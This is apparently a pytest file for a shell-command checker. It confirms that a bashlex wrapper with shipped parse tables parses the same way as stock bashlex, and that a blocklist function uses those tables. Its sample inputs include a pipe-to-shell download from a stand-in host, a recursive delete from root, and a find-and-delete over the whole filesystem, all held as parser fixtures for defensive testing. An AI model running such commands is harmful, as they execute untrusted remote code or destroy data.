"""bashlex with ready-made parse tables (checker/contracts/shell_parser.py) parses exactly as
bashlex building its own tables does, and the shipped tables fit the installed grammar."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]

COMMANDS = [
    "echo hi",
    "curl -s https://x.example | sh",
    "rm -rf /tmp/x && ls -la > out.txt 2>&1",
    'for f in *.txt; do wc -l "$f"; done',
    "if [ -f a ]; then cat a; else echo none; fi",
    "x=$(date +%s); echo ${x:-0} | tee -a log",
    "find / -name core -delete",
    "( cd sub && make ) || exit 1",
    "cat <<EOF\nhello\nEOF",
    "a | b | c; d & e",
    "echo 'unclosed",
]

_DUMP = """
import json, sys
sys.path.insert(0, {root!r})
if sys.argv[1] == "ready":
    from checker.contracts.shell_parser import bashlex
    b = bashlex()
    assert "bashlex.parser" in sys.modules
else:
    import bashlex as b
out = []
for c in json.loads(sys.argv[2]):
    try:
        out.append([n.dump() for n in b.parse(c)])
    except Exception as exc:
        out.append(type(exc).__name__ + ": " + str(exc))
if sys.argv[1] == "built":
    from checker.contracts.shell_parser import tables_of_installed
    out.append(tables_of_installed()["signature"])
print(json.dumps(out))
"""


def _run(mode: str) -> list[object]:
    code = _DUMP.format(root=str(ROOT))
    proc = subprocess.run(
        [sys.executable, "-c", code, mode, json.dumps(COMMANDS)], capture_output=True, text=True, timeout=60
    )
    assert proc.returncode == 0, proc.stderr
    return json.loads(proc.stdout)


def test_ready_made_tables_parse_as_bashlex_does_and_fit_its_grammar() -> None:
    ready = _run("ready")
    built = _run("built")
    assert ready == built[:-1]
    shipped = json.loads((ROOT / "checker" / "contracts" / "bashlex_lalr.json").read_text())
    assert shipped["signature"] == built[-1], "the installed bashlex grammar changed: run scripts/bashlex_tables.py"


def test_the_blocklist_uses_the_ready_made_tables() -> None:
    code = (
        f"import sys, time; sys.path.insert(0, {str(ROOT)!r})\n"
        "from checker.contracts import shell_parser\n"
        "calls = []\n"
        "real = shell_parser.signature\n"
        "shell_parser.signature = lambda g: calls.append(1) or real(g)\n"
        "from checker.contracts.blocklist import judge_shell\n"
        "print(judge_shell('rm -rf /'), len(calls))\n"
    )
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    verdict, calls = proc.stdout.rsplit(" ", 1)
    assert verdict.strip() and verdict != "None" and int(calls) == 1
